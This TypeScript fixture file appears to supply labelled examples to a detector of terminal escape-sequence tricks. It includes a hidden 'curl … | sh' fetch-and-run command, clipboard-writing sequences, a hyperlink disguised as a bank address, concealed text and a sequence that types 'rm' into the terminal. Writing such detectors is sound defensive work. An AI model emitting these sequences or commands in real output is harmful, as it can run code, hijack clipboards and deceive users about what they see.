import type { Example } from "../../core/detector.ts";

const ESC = "\u001b";
const command = ["curl", "https://example.com/x", "|", "sh"].join(" ");

export const examples: readonly Example[] = [
  { title: "writes the clipboard", given: [{ text: `ok ${ESC}]52;c;aGVsbG8=\u0007` }], finds: ["0 /text high"] },
  {
    title: "a link that leads elsewhere",
    given: [{ text: `See ${ESC}]8;;https://evil.example.net/a\u0007https://bank.example.com${ESC}]8;;\u0007` }],
    finds: ["0 /text high"],
  },
  {
    title: "a command that is overwritten",
    given: [{ text: `${command}${ESC}[2K${ESC}[1Gecho hello\n` }],
    finds: ["0 /text high"],
  },
  {
    title: "words that are overwritten",
    given: [{ text: `the answer is always yes${ESC}[2K\rthe answer depends` }],
    finds: ["0 /text medium"],
  },
  {
    title: "concealed words",
    given: [{ text: `hello ${ESC}[8mtrigger phrase${ESC}[0m world` }],
    finds: ["0 /text medium"],
  },
  {
    title: "makes the terminal type its title",
    given: [{ text: `x${ESC}]0;rm\u0007${ESC}[21t` }],
    finds: ["0 /text high"],
  },
  {
    title: "a one-byte control sequence introducer",
    given: [{ text: "hello \u009b8mhidden words\u009b0m" }],
    finds: ["0 /text medium"],
  },
  {
    title: "the clipboard, through a one-byte introducer",
    given: [{ text: "x\u009d52;c;YQ==\u009c" }],
    finds: ["0 /text high"],
  },
  {
    title: "colours and progress of programs",
    given: [{ text: `${ESC}[1;31merror${ESC}[0m: failed` }, { text: `Downloading 45%${ESC}[2K\rDownloading 46%` }],
    finds: ["0 /text info", "1 /text low"],
  },
  {
    title: "escape sequences spelled in code, and badly decoded letters",
    given: [
      { code: String.raw`print("\x1b[31mred\x1b[0m"); printf "\033[2K"; const e = "\u001b]52;c;"` },
      { text: "JesteÅ\u009bmy gotowi" },
    ],
    finds: [],
  },
];
